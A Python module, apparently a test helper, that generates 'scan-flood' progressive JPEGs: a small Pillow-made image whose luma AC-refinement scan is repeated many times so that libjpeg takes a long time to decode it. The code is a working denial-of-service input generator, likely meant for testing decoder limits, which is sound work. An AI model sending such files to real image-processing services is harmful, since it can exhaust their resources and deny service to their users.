"""Progressive JPEGs with one small scan repeated many times: the scan-flood attack on libjpeg.

Every scan costs libjpeg a pass over the whole image, even one made only of "EOB runs" (a dozen bytes
saying "nothing here" for thousands of blocks), so repeating such a scan makes a small file slow to
decode (djpeg ``-maxscans``: https://github.com/libjpeg-turbo/libjpeg-turbo/blob/main/doc/djpeg.1).
The file is a real Pillow progressive JPEG whose luma AC-refinement scan is copied ``copies`` times
before EOI: libjpeg only warns about the repeated progression, and Pillow decodes it.
"""

from __future__ import annotations

import io
import re

from PIL import Image

_MARKER_AFTER_DATA = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]")


def scan_segments(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each SOS segment (header and entropy-coded data) of a simple JPEG."""
    pos, scans = 2, []
    while pos < len(data) and data[pos + 1] != 0xD9:
        code = data[pos + 1]
        end = pos + 2 + int.from_bytes(data[pos + 2:pos + 4], "big")
        if code == 0xDA:
            found = _MARKER_AFTER_DATA.search(data, end)
            assert found is not None, "a scan without an end"
            end = found.start()
            scans.append((pos, end))
        pos = end
    return scans


def scan_flood_jpeg(width: int, height: int, copies: int) -> bytes:
    """A ``width`` x ``height`` progressive JPEG with ``copies`` extra copies of its luma AC-refinement scan."""
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (120, 130, 140)).save(buffer, "JPEG", progressive=True, quality=80)
    data = buffer.getvalue()
    # SOS header: Ls(2) Ns(1) [Cs Td/Ta](2 * Ns) Ss Se Ah/Al. Pillow (libjpeg) numbers luma component 1.
    refinement = [(s, e) for s, e in scan_segments(data)
                  if data[s + 4] == 1 and data[s + 5] == 1 and data[s + 7:s + 9] == b"\x01\x3f" and data[s + 9] >> 4]
    start, end = refinement[-1]
    eoi = data.rindex(b"\xff\xd9")
    return data[:eoi] + data[start:end] * copies + data[eoi:]
